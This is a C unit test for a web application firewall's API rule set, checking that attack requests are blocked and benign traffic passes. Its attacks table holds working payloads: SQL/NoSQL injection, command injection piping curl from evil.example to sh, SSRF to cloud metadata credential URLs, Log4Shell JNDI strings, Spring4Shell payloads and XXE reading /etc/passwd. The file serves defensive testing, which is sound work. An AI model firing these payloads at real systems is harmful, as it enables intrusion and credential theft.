/* Rampart's own API signature sets (rules/rampart-api/) imported with OWASP
 * CRS 3.3.4 by the same importer and run by the same engine:
 *  - every rule of the directory is imported (none skipped), has an id in
 *    the private range 76000-76999, the family tag and a paranoia tag;
 *  - per family, attack requests with their obfuscations are blocked and
 *    matched by the expected rule id (at the rule's paranoia level);
 *  - every imported rule id is the expected id of at least one attack;
 *  - realistic benign API traffic (a hand-written set with the words and
 *    shapes the rules look for in ordinary places, and the requests of
 *    tools/bench/benign_mix.py) matches none of our rules at PL 2.
 *
 * Arguments: CRS rules dir, rules/rampart-api dir, benign mix JSONL. Skips
 * (with a message) when the CRS package is not installed. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "corpus/crs_corpus.h"
#include "crs_import.h"
#include "waf/waf_engine.h"
#include "waf/waf_program.h"

#define API_ID_MIN 76000u
#define API_ID_MAX 76999u
#define WIRE_MAX   8192u

static const char *crs_dir, *api_dir, *benign_path, *program_path;

struct fix {
	struct waf_ruleset rs;
	struct waf_program *prog; /* the build's compiled CRS + ours, when given */
	struct waf_engine *e;
	struct waf_eval *ev;
	struct http_req *req;
	struct waf_reqview v;
	struct waf_result res;
	char wire[WIRE_MAX];
};

static struct fix *F;

static bool is_api_id(uint32_t id)
{
	return id >= API_ID_MIN && id <= API_ID_MAX;
}

static int setup(void **state)
{
	struct http_limits lim;
	char err[256] = "";

	(void)state;
	F = calloc(1, sizeof(*F));
	if (!F)
		return -1;
	/* CRS first, then ours, as rampart-cp loads them; CRS's @pmFromFile
	 * data live in its own directory (ours use none) */
	/* crs_hs_check() compiles every pattern once more to move those that
	 * compile nowhere to the skipped list; with the build's program that
	 * is already done (test_import_report checks each of ours is in it) */
	if (crs_import_dir(&F->rs, crs_dir) < 0 || crs_import_dir(&F->rs, api_dir) < 0 ||
	    (!program_path && crs_hs_check(&F->rs) < 0)) {
		fprintf(stderr, "import of %s + %s failed\n", crs_dir, api_dir);
		return -1;
	}
	if (program_path) { /* compiled once by the build (rampart-waf compile) */
		F->prog = waf_program_load_file(program_path, err, sizeof(err));
		F->e = F->prog ? F->prog->engine : NULL;
	} else {
		F->e = waf_engine_build(F->rs.imported, F->rs.n_imported, crs_dir, NULL, err,
					sizeof(err));
	}
	if (!F->e) {
		fprintf(stderr, "engine build: %s\n", err);
		return -1;
	}
	F->ev = waf_eval_create(F->e);
	http_limits_default(&lim);
	F->req = http_req_create(&lim);
	if (!F->ev || !F->req)
		return -1;
	http_req_set_body_cb(F->req, waf_reqview_body_cb, &F->v);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	if (!F)
		return 0;
	waf_eval_free(F->ev);
	if (F->prog)
		waf_program_free(F->prog);
	else
		waf_engine_free(F->e);
	waf_ruleset_free(&F->rs);
	http_req_destroy(F->req);
	waf_reqview_free(&F->v);
	free(F);
	F = NULL;
	return 0;
}

/* Parse @wire[0..len) and evaluate it at @pl. */
static const struct waf_result *eval_wire(const char *wire, size_t len, unsigned pl)
{
	struct waf_engine_conf conf;
	int rc;

	waf_engine_conf_default(&conf);
	conf.paranoia = (uint8_t)pl;
	http_req_reset(F->req);
	waf_reqview_reset(&F->v);
	rc = http_parse(F->req, wire, len);
	if (rc == 0)
		rc = http_req_eof(F->req);
	if (rc < 0)
		fail_msg("HTTP parser refused the test request (%d): %.*s", rc, (int)(len > 200 ? 200 : len),
			 wire);
	assert_int_equal(waf_reqview_build(&F->v, F->req), 0);
	assert_int_equal(waf_eval_run(F->ev, &conf, &F->v, &F->res), 0);
	assert_int_equal(F->res.errors, 0);
	return &F->res;
}

static bool matched(const struct waf_result *r, uint32_t id)
{
	for (uint32_t i = 0; i < r->n_matches && i < WAF_MATCH_MAX; i++)
		if (r->matches[i].id == id)
			return true;
	return false;
}

static void dump(const struct waf_result *r)
{
	for (uint32_t i = 0; i < r->n_matches && i < WAF_MATCH_MAX; i++)
		fprintf(stderr, "    %u %s '%s'\n", r->matches[i].id, r->matches[i].target,
			r->matches[i].excerpt);
}

/* ------------------------------------------------------------ requests */

/* One test request: GET (ctype NULL) or POST with a body; extra header lines
 * end in \r\n. */
struct tcase {
	uint32_t id;        /* expected rule (attacks); 0 for benign cases */
	unsigned pl;        /* paranoia level to run at */
	const char *target; /* request target */
	const char *ctype;  /* Content-Type of the POST body, NULL: GET */
	const char *body;
	const char *hdrs;   /* extra header lines */
};

static size_t build(const struct tcase *c)
{
	int n;

	if (c->ctype)
		n = snprintf(F->wire, sizeof(F->wire),
			     "POST %s HTTP/1.1\r\nHost: api.example.com\r\n"
			     "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\n"
			     "Accept: application/json\r\n%sContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s",
			     c->target, c->hdrs ? c->hdrs : "", c->ctype, strlen(c->body), c->body);
	else
		n = snprintf(F->wire, sizeof(F->wire),
			     "GET %s HTTP/1.1\r\nHost: api.example.com\r\n"
			     "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\n"
			     "Accept: application/json\r\n%s\r\n",
			     c->target, c->hdrs ? c->hdrs : "");
	assert_true(n > 0 && (size_t)n < sizeof(F->wire));
	return (size_t)n;
}

#define JSON "application/json"
#define FORM "application/x-www-form-urlencoded"
#define XML  "application/xml"

static const struct tcase attacks[] = {
	/* 761 JSON-body injection */
	{ 76110, 1, "/api/v1/users", JSON,
	  "{\"id\":\"1' or json_extract('{\\\"a\\\":1}','$.a')=1 -- \"}", NULL },
	{ 76110, 1, "/api/v1/users", JSON, "{\"name\":\"x' OR JSON_LENGTH('{}') <= 8896 #\"}", NULL },
	{ 76110, 1, "/api/v1/items?id=1%27%20AND%20JSON_VALID(%27%7B%7D%27)%3D1", NULL, NULL, NULL },
	{ 76110, 1, "/api/v1/items", JSON, "{\"q\":\"1'/**/or/**/JsOn_ExTrAcT(@a,'$.b')\"}", NULL },
	{ 76110, 1, "/api/v1/items", JSON, "{\"q\":\"1) union select jsonb_each_text(x) from t--\"}", NULL },
	{ 76111, 1, "/api/v1/items", JSON,
	  "{\"q\":\"' or '{\\\"b\\\":2}'::jsonb <@ '{\\\"a\\\":1,\\\"b\\\":2}'::jsonb --\"}", NULL },
	{ 76111, 1, "/api/v1/items?f=x%27%20or%20%27%5B1%2C2%5D%27%20%40%3E%20%27%5B1%5D%27", NULL, NULL, NULL },
	{ 76111, 1, "/api/v1/items", JSON, "{\"q\":\"a' or data->>'role' = 'admin\",\"x\":\"' #>> '{a,b}'\"}", NULL },
	{ 76120, 1, "/api/v1/users", JSON, "{\"name' OR 1=1--\":\"x\"}", NULL },
	{ 76120, 1, "/api/v1/users", JSON, "{\"sort\":{\"created`; DROP TABLE users;--\":1}}", NULL },
	{ 76120, 1, "/api/v1/users", JSON, "{\"fields\":{\"name\\u0027 union select password from users#\":1}}", NULL },
	{ 76121, 1, "/api/v1/files", JSON, "{\"file; cat /etc/passwd\":\"x\"}", NULL },
	{ 76121, 1, "/api/v1/files", JSON, "{\"opts\":{\"$(id)\":1}}", NULL },
	{ 76121, 1, "/api/v1/files", JSON, "{\"a`whoami`\":1}", NULL },
	{ 76121, 1, "/api/v1/files", JSON, "{\"x|curl http://evil.example/s|sh\":1}", NULL },
	{ 76130, 1, "/api/v1/users", JSON, "{\"a\":1,,\"b\":\"' or 1=1 --\"}", NULL },
	{ 76130, 1, "/api/v1/users", JSON, "{\"a\":\"unterminated", NULL },

	/* 762 NoSQL operator injection */
	{ 76210, 1, "/api/v1/login", JSON, "{\"username\":\"admin\",\"password\":{\"$ne\":null}}", NULL },
	{ 76210, 1, "/api/v1/login?user=admin&password[$ne]=x", NULL, NULL, NULL },
	{ 76210, 1, "/api/v1/login?user=admin&password%5B%24regex%5D=.*", NULL, NULL, NULL },
	{ 76210, 1, "/api/v1/login?user=admin&password[%2524gt]=", NULL, NULL, NULL },
	{ 76210, 1, "/api/v1/login", FORM, "user=admin&pass[$gt]=&x=1", NULL },
	{ 76210, 1, "/api/v1/users", JSON, "{\"$where\":\"sleep(5000) || true\"}", NULL },
	{ 76210, 1, "/api/v1/users", JSON, "{\"q\":{\"$or\":[{\"a\":1},{\"$expr\":{\"$function\":{}}}]}}", NULL },
	{ 76210, 1, "/api/v1/users", JSON, "{\"tags\":{\"$elemMatch\":{\"$nin\":[1]}}}", NULL },
	{ 76210, 1, "/api/v1/users", JSON, "{\"u\":{\"\\u0024ne\":1}}", NULL },
	{ 76211, 2, "/api/v1/report", JSON, "{\"pipeline\":[{\"$lookup\":{\"from\":\"users\"}}]}", NULL },
	{ 76211, 2, "/api/v1/report?f[$type]=2", NULL, NULL, NULL },
	{ 76220, 1, "/api/v1/users?filter=%7B%22%24where%22%3A%22this.password.length%3E0%22%7D", NULL, NULL, NULL },
	{ 76220, 1, "/api/v1/login", FORM, "user=admin&password=%7B%22%24ne%22%3Anull%7D", NULL },
	{ 76220, 1, "/api/v1/search", JSON, "{\"filter\":\"{\\\"$gt\\\":\\\"\\\"}\"}", NULL },
	{ 76220, 1, "/api/v1/search", JSON, "{\"filter\":\"{ $regex: '^adm', $options: 'i' }\"}", NULL },
	{ 76230, 2, "/api/v1/login", JSON, "{\"username\":\"admin' || '1'=='1\"}", NULL },
	{ 76230, 2, "/api/v1/login", JSON, "{\"username\":\"a';return true;var b='\"}", NULL },
	{ 76230, 2, "/api/v1/search?q=db.users.drop()", NULL, NULL, NULL },

	/* 763 SSRF to metadata services */
	{ 76310, 1, "/api/v1/import", JSON,
	  "{\"url\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}", NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://2852039166/latest/meta-data/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://0xa9fea9fe/latest", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://0251.0376.0251.0376/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://0xa9.0xfe.0251.254/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://169.254.43518/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://169.16689662/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://025177524776/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://[::ffff:a9fe:a9fe]/latest", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://[0:0:0:0:0:ffff:169.254.169.254]/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://[fd00:ec2::254]/latest/meta-data/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch?url=http://100.100.100.200/latest/meta-data/", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch", JSON, "{\"hook\":{\"target\":\"http://169.254.170.2/v2/credentials\"}}", NULL },
	{ 76310, 1, "/api/v1/fetch?u=http%253A%252F%252F169.254.169.254%252F", NULL, NULL, NULL },
	{ 76310, 1, "/api/v1/fetch", XML, "<job><src>http://169.254.169.254/</src></job>", NULL },
	{ 76310, 1, "/api/v1/fetch", JSON, "{\"u\":\"http://user@169.254.169.254:80/\"}", NULL },
	{ 76310, 1, "/api/v1/proxy", NULL, NULL, "X-Forwarded-Host: 169.254.169.254\r\n" },
	{ 76320, 1, "/api/v1/fetch", JSON, "{\"webhook\":\"http://metadata.google.internal/computeMetadata/v1/\"}", NULL },
	{ 76320, 1, "/api/v1/fetch?url=http://metadata/computeMetadata/v1/instance/", NULL, NULL, NULL },
	{ 76320, 1, "/api/v1/fetch?url=http://instance-data/latest/meta-data/", NULL, NULL, NULL },
	{ 76320, 1, "/api/v1/fetch?url=http://METADATA.GOOG./", NULL, NULL, NULL },

	/* 764 JNDI / Log4Shell */
	{ 76410, 1, "/api/v1/users", NULL, NULL, "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n" },
	{ 76410, 1, "/api/v1/users", NULL, NULL, "X-Api-Version: ${${lower:j}ndi:ldap://x.example/a}\r\n" },
	{ 76410, 1, "/api/v1/users", NULL, NULL,
	  "Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}\r\n" },
	{ 76410, 1, "/api/v1/users?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", NULL, NULL, NULL },
	{ 76410, 1, "/api/v1/users", NULL, NULL, "X-Forwarded-For: %24%7Bjndi:dns://x.example%7D\r\n" },
	{ 76410, 1, "/api/v1/users", JSON, "{\"name\":\"\\u0024{jndi:ldap://x.example/a}\"}", NULL },
	{ 76410, 1, "/api/v1/users", JSON, "{\"name\":\"${j${k8s:k5:-ND}i:ldap://x.example/}\"}", NULL },
	{ 76410, 1, "/api/v1/users", FORM, "n=%26dollar%3B%26lbrace%3Bjndi%3Aldap%3A%2F%2Fx%2Fa%26rcub%3B", NULL },
	{ 76410, 1, "/api/v1/users", NULL, NULL, "Cookie: session=${jndi:ldap://x.example/a}\r\n" },
	{ 76410, 1, "/api/v1/users", NULL, NULL, "User-Agent-X: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}\r\n" },
	{ 76410, 1, "/api/v1/users", NULL, NULL, "X-Q: ${ JNDI :ldap://x/a}\r\n" },
	{ 76411, 1, "/api/v1/users", NULL, NULL, "X-Q: ${::-j}\r\n" },
	{ 76411, 1, "/api/v1/users", JSON, "{\"a\":\"${ldap://x.example/a}\"}", NULL },
	{ 76420, 2, "/api/v1/users", NULL, NULL, "X-Token: ${env:AWS_SECRET_ACCESS_KEY}\r\n" },
	{ 76420, 2, "/api/v1/users", JSON, "{\"v\":\"${sys:java.version}\"}", NULL },

	/* 765 Spring4Shell and friends */
	{ 76510, 1, "/api/v1/greet", FORM,
	  "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", NULL },
	{ 76510, 1, "/api/v1/greet?class.module.classLoader.URLs%5B0%5D=0", NULL, NULL, NULL },
	{ 76510, 1, "/api/v1/greet?class[module][classLoader][resources]=x", NULL, NULL, NULL },
	{ 76510, 1, "/api/v1/greet?Class.Module.ClassLoader.x=1", NULL, NULL, NULL },
	{ 76510, 1, "/api/v1/greet?class%5B%27module%27%5D%5B%27classLoader%27%5D.x=1", NULL, NULL, NULL },
	{ 76510, 1, "/api/v1/greet?class.classLoader.URLs%5B0%5D=jar:http://x/a.jar!/", NULL, NULL, NULL },
	{ 76510, 1, "/api/v1/greet", JSON, "{\"class\":{\"module\":{\"classLoader\":{\"x\":1}}}}", NULL },
	{ 76510, 1, "/api/v1/greet?a.class.protectionDomain.codeSource=1", NULL, NULL, NULL },
	{ 76511, 1, "/api/v1/greet?x.pipeline.first.suffix=.jsp", NULL, NULL, NULL },
	{ 76511, 1, "/api/v1/greet", FORM, "y.pipeline.first.fileDateFormat=", NULL },
	{ 76520, 1, "/functionRouter", "text/plain", "x",
	  "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")\r\n" },

	/* 766 XXE */
	{ 76610, 1, "/api/v1/orders", XML,
	  "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", NULL },
	{ 76610, 1, "/api/v1/orders", XML,
	  "<!DOCTYPE data [<!ENTITY % dtd SYSTEM \"http://evil.example/x.dtd\"> %dtd;]><data/>", NULL },
	{ 76610, 1, "/api/v1/orders", XML, "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo>1</foo>", NULL },
	{ 76610, 1, "/api/v1/orders", "text/xml",
	  "<!DOCTYPE foo PUBLIC \"-//X//Y\" \"http://evil.example/x.dtd\"><foo/>", NULL },
	{ 76610, 1, "/api/v1/orders", XML,
	  "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>", NULL },
	{ 76610, 1, "/api/v1/orders", XML,
	  "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
	  NULL },
	{ 76610, 1, "/api/v1/orders", "application/soap+xml",
	  "<!doctype Env [<!entity X system \"file:///etc/shadow\">]><Env>&X;</Env>", NULL },
	{ 76610, 1, "/api/v1/orders", XML,
	  "<!DOCTYPE\n foo\n [\n<!ENTITY\t xxe\n PUBLIC \"a\" \"http://x/\">\n]><foo>&xxe;</foo>", NULL },
	{ 76611, 1, "/api/v1/feed", "application/atom+xml",
	  "<!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><feed>&x;</feed>", NULL },
	{ 76611, 1, "/api/v1/feed", FORM,
	  "xml=%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20y%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cx%3E%26y%3B%3C%2Fx%3E",
	  NULL },
	{ 76611, 1, "/api/v1/feed", JSON, "{\"doc\":\"<!DOCTYPE a SYSTEM \\\"http://x/a.dtd\\\"><a/>\"}", NULL },
	{ 76620, 2, "/api/v1/orders", XML,
	  "<!DOCTYPE note [<!ENTITY writer \"Donald\">]><note>&writer;</note>", NULL },

	/* 767 GraphQL introspection */
	{ 76710, 1, "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", NULL, NULL, NULL },
	{ 76710, 1, "/graphql", JSON,
	  "{\"query\":\"query IntrospectionQuery { __schema { queryType { name } } }\"}", NULL },
	{ 76710, 1, "/graphql", JSON, "{\"query\":\"{ __type(name: \\\"User\\\") { fields { name } } }\"}", NULL },
	{ 76710, 1, "/graphql", JSON, "{\"query\":\"{ s: __schema, # comment\\n { types { name } } }\"}", NULL },
	{ 76710, 1, "/graphql", "application/graphql", "{ __schema { types { name } } }", NULL },
	{ 76710, 1, "/graphql", JSON, "[{\"query\":\"{a}\"},{\"query\":\"{__SCHEMA{types{name}}}\"}]", NULL },
	{ 76710, 1, "/graphql", JSON, "{\"query\":\"{ \\u005f_schema { types { name } } }\"}", NULL },

	/* 768 credentials in URLs */
	{ 76810, 1, "/api/v1/login?user=bob&password=hunter2", NULL, NULL, NULL },
	{ 76810, 1, "/api/v1/items?api_key=abcdef123456", NULL, NULL, NULL },
	{ 76810, 1, "/api/v1/items?access_token=xyz", NULL, NULL, NULL },
	{ 76810, 1, "/api/v1/items?user[password]=x", NULL, NULL, NULL },
	{ 76810, 1, "/api/v1/items?Client_Secret=s", NULL, NULL, NULL },
	{ 76810, 1, "/api/v1/items?x-api-key=k", NULL, NULL, NULL },
	{ 76820, 1, "/api/v1/items?k=AKIAIOSFODNN7EXAMPLE", NULL, NULL, NULL },
	{ 76820, 1, "/api/v1/repos?t=ghp_0123456789abcdefghijABCDEFGHIJklmnop", NULL, NULL, NULL },
	{ 76820, 1, "/hooks/xoxb-1234567890-abcdefghij", NULL, NULL, NULL },
	{ 76820, 1, "/api/v1/pay?c=sk_live_4eC39HqLyjWDarjtT1zdp7dc", NULL, NULL, NULL },
	{ 76820, 1, "/api/v1/x?k=%41KIAIOSFODNN7EXAMPLE", NULL, NULL, NULL },
	{ 76820, 1, "/api/v1/x?k=glpat-abcdefghij0123456789", NULL, NULL, NULL },
	{ 76830, 1, "/api/v1/hooks?callback=https://admin:s3cret@internal.example/hook", NULL, NULL, NULL },
	{ 76830, 1, "/api/v1/hooks?cb=ftp%3A%2F%2Fu%3Ap%40files.example%2F", NULL, NULL, NULL },
	{ 76840, 2, "/api/v1/items?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", NULL, NULL,
	  NULL },
};

/* Benign API traffic with what the rules look for in ordinary places. */
static const struct tcase benign[] = {
	{ 0, 2, "/api/v1/products?q=select+a+class&sort=price&where=paris&schema=v2", NULL, NULL, NULL },
	{ 0, 2, "/api/v1/orders", JSON,
	  "{\"query\":\"select the best schema\",\"class\":\"economy\",\"module\":\"billing\","
	  "\"note\":\"Where are my orders? I'd like to select a class or two\"}", NULL },
	{ 0, 2, "/api/v1/schemas", JSON,
	  "{\"$schema\":\"https://json-schema.org/draft/2020-12/schema\",\"$id\":\"https://example.com/order.schema.json\","
	  "\"type\":\"object\",\"properties\":{\"price\":{\"type\":\"number\",\"minimum\":0}},"
	  "\"$defs\":{\"x\":{\"$ref\":\"#/$defs/y\"}},\"$comment\":\"ok\"}", NULL },
	{ 0, 2, "/api/v1/promos", JSON, "{\"label\":\"Save $5 on orders over $50\",\"currency\":\"$\",\"ne\":\"north-east\"}",
	  NULL },
	{ 0, 2, "/api/v1/templates", JSON,
	  "{\"template\":\"Hello ${name}, your order ${order.id} shipped\",\"env\":\"prod\"}", NULL },
	{ 0, 2, "/graphql", JSON,
	  "{\"query\":\"query GetUser($id: ID!) { user(id: $id) { id name __typename type(format: SHORT) } }\","
	  "\"variables\":{\"id\":\"1\"},\"operationName\":\"GetUser\"}", NULL },
	{ 0, 2, "/graphql?query=%7Bproducts%7Bid%20__typename%7D%7D", NULL, NULL, NULL },
	{ 0, 2, "/api/v1/webhooks", JSON,
	  "{\"webhook\":\"https://hooks.example.com/services/T000/B000/XXXX\",\"avatar\":\"https://cdn.example.com/a/169.254.png\","
	  "\"repo\":\"ssh://git@github.com/example/app.git\",\"metadata\":{\"region\":\"eu\"},\"id\":2852039166}", NULL },
	{ 0, 2, "/api/v1/redirect?to=https%3A%2F%2Fapp.example.com%2Fhome%3Fx%3D1&ip=169.254.10.20&host=10.0.0.1", NULL,
	  NULL, NULL },
	{ 0, 2, "/api/v1/orders", XML,
	  "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"1\"><item sku=\"A-1\">Widget &amp; gadget</item>"
	  "<note>see http://www.w3.org/2001/XMLSchema</note></order>", NULL },
	{ 0, 2, "/soap", "text/xml",
	  "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice>"
	  "<Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>", NULL },
	{ 0, 2, "/api/v1/items?page_token=abc&next_token=def&key=AIzaSyA-example&forgot_password=1&password_reset=true",
	  NULL, NULL, "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl\r\n"
	  "X-Api-Key: AKIAIOSFODNN7EXAMPLE\r\n" },
	{ 0, 2, "/api/v1/courses?class=economy&module=billing&classLoader=false&pipeline=first", NULL, NULL, NULL },
	{ 0, 2, "/api/v1/students", JSON, "{\"student\":{\"class\":{\"name\":\"5B\",\"module\":\"maths\"}}}", NULL },
	{ 0, 2, "/api/v1/prices", JSON,
	  "{\"price\":{\"currency\":\"USD\",\"amount\":5},\"tip\":\"use $ne to compare\",\"where\":\"home\"}", NULL },
	{ 0, 2, "/api/v1/items?filter[status]=active&sort[created]=desc", NULL, NULL, NULL },
	{ 0, 2, "/api/v1/comments", JSON,
	  "{\"comment\":\"I'll check the JSON output (json_extract is a MySQL function)\",\"by\":\"O'Brien\"}", NULL },
	{ 0, 2, "/api/v1/people", FORM, "name=O%27Brien&city=Lyon&type=person", NULL },
	{ 0, 2, "/api/v1/users", NULL, NULL, "X-Trace: ${trace_id}\r\nX-Request-Id: 4f1c2b7e\r\n" },
	{ 0, 2, "/api/v1/docs", JSON,
	  "{\"title\":\"Type systems\",\"body\":\"The __init__ method and the type (int) of x\",\"tags\":[\"python\"]}", NULL },
};

/* ------------------------------------------------------------ tests */

static void test_import_report(void **state)
{
	size_t ours = 0;

	(void)state;
	assert_int_equal(F->rs.n_errors, 0);
	for (size_t i = 0; i < F->rs.n_skipped; i++) {
		const struct waf_rule *r = F->rs.skipped[i].rule;
		if (strncmp(r->file, "RAMPART-API-", 12) == 0)
			fail_msg("rule %u (%s:%u) skipped: %s", r->id, r->file, r->line, F->rs.skipped[i].reason);
	}
	for (size_t i = 0; i < F->rs.n_imported; i++) {
		const struct waf_rule *r = F->rs.imported[i];
		bool family = false, pl = false;

		if (strncmp(r->file, "RAMPART-API-", 12) != 0) {
			assert_false(is_api_id(r->id)); /* CRS never uses our range */
			continue;
		}
		ours++;
		if (!is_api_id(r->id))
			fail_msg("%s: id %u outside %u-%u", r->file, r->id, API_ID_MIN, API_ID_MAX);
		/* the file's family number is the id's hundreds: 761 -> 761xx */
		assert_int_equal(r->id / 100, (uint32_t)strtoul(r->file + 12, NULL, 10));
		for (size_t t = 0; t < r->n_tags; t++) {
			family |= strncmp(r->tags[t], "rampart-api/", 12) == 0 && r->tags[t][12];
			pl |= strncmp(r->tags[t], "paranoia-level/", 15) == 0;
		}
		if (!family || !pl)
			fail_msg("rule %u lacks its rampart-api/<family> or paranoia-level tag", r->id);
		assert_true(r->paranoia >= 1 && r->paranoia <= 2);
		assert_int_equal(r->severity, 2); /* CRITICAL: README.md says why */
		assert_true(waf_engine_has_rule(F->e, r->id));
	}
	assert_int_equal(ours, 25);
}

static bool crs_matched(const struct waf_result *r)
{
	for (uint32_t i = 0; i < r->n_matches && i < WAF_MATCH_MAX; i++)
		if (!is_api_id(r->matches[i].id))
			return true;
	return false;
}

static void test_attacks(void **state)
{
	unsigned failed = 0, crs_blind = 0, fam_n[10] = { 0 }, fam_blind[10] = { 0 };

	(void)state;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const struct tcase *c = &attacks[i];
		size_t n = build(c);
		const struct waf_result *r = eval_wire(F->wire, n, c->pl);

		if (!matched(r, c->id) || !r->block) {
			fprintf(stderr, "attack %zu: rule %u %s, decision %s (score %u), request:\n%s\n", i, c->id,
				matched(r, c->id) ? "matched" : "did NOT match", r->block ? "block" : "pass",
				r->score, F->wire);
			dump(r);
			failed++;
		}
		crs_blind += !crs_matched(r);
		fam_n[c->id / 100 % 10]++;
		fam_blind[c->id / 100 % 10] += !crs_matched(r);
		/* a PL2 rule does not run at PL1 */
		if (c->pl == 2) {
			r = eval_wire(F->wire, n, 1);
			if (matched(r, c->id)) {
				fprintf(stderr, "attack %zu: PL2 rule %u ran at PL1\n", i, c->id);
				failed++;
			}
		}
	}
	fprintf(stderr, "attacks: %zu, no CRS rule matched %u of them; per family (76N): ",
		sizeof(attacks) / sizeof(attacks[0]), crs_blind);
	for (unsigned f = 1; f < 10; f++)
		if (fam_n[f])
			fprintf(stderr, "%s76%u %u/%u", f > 1 ? ", " : "", f, fam_blind[f], fam_n[f]);
	fprintf(stderr, "\n");
	assert_int_equal(failed, 0);
}

static void test_every_rule_attacked(void **state)
{
	(void)state;
	for (size_t i = 0; i < F->rs.n_imported; i++) {
		uint32_t id = F->rs.imported[i]->id;
		bool seen = false;

		if (!is_api_id(id))
			continue;
		for (size_t k = 0; k < sizeof(attacks) / sizeof(attacks[0]) && !seen; k++)
			seen = attacks[k].id == id;
		if (!seen)
			fail_msg("rule %u has no attack test", id);
	}
}

static unsigned api_matches(const struct waf_result *r)
{
	unsigned n = 0;

	for (uint32_t i = 0; i < r->n_matches && i < WAF_MATCH_MAX; i++)
		n += is_api_id(r->matches[i].id);
	return n;
}

static void test_benign_hand(void **state)
{
	unsigned failed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
		size_t n = build(&benign[i]);
		const struct waf_result *r = eval_wire(F->wire, n, benign[i].pl);

		if (api_matches(r)) {
			fprintf(stderr, "benign %zu matched our rules:\n%s\n", i, F->wire);
			dump(r);
			failed++;
		}
	}
	assert_int_equal(failed, 0);
}

/* tools/bench/benign_mix.py's requests (what scripts/bench waf measures). */
static void test_benign_mix(void **state)
{
	struct crs_corpus *c = crs_corpus_open(benign_path);
	struct crs_corpus_case tc;
	unsigned seen = 0, failed = 0, bad = 0;
	int rc;

	(void)state;
	if (!c)
		fail_msg("%s: cannot open", benign_path);
	while ((rc = crs_corpus_next(c, &tc)) != 0) {
		if (rc < 0) {
			bad++;
			continue;
		}
		const struct waf_result *r = eval_wire(tc.wire, tc.wire_len, 2);
		seen++;
		if (api_matches(r)) {
			fprintf(stderr, "benign mix %s matched our rules\n", tc.id ? tc.id : "?");
			dump(r);
			failed++;
		}
	}
	crs_corpus_close(c);
	fprintf(stderr, "benign mix: %u requests at PL2, %u matched rampart-api rules\n", seen, failed);
	assert_int_equal(bad, 0);
	assert_true(seen >= 500); /* the file meson generates has 600 */
	assert_int_equal(failed, 0);
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_import_report),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_every_rule_attacked),
		cmocka_unit_test(test_benign_hand),
		cmocka_unit_test(test_benign_mix),
	};
	DIR *d;

	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: %s CRS_RULES_DIR RAMPART_API_RULES_DIR BENIGN_MIX.jsonl "
			"[PROGRAM]\n", argv[0]);
		return 2;
	}
	crs_dir = argv[1];
	api_dir = argv[2];
	benign_path = argv[3];
	program_path = argc == 5 ? argv[4] : NULL;
	if (!(d = opendir(crs_dir))) {
		printf("SKIP: %s absent (Debian package modsecurity-crs)\n", crs_dir);
		return 77;
	}
	closedir(d);
	return cmocka_run_group_tests(tests, setup, teardown);
}
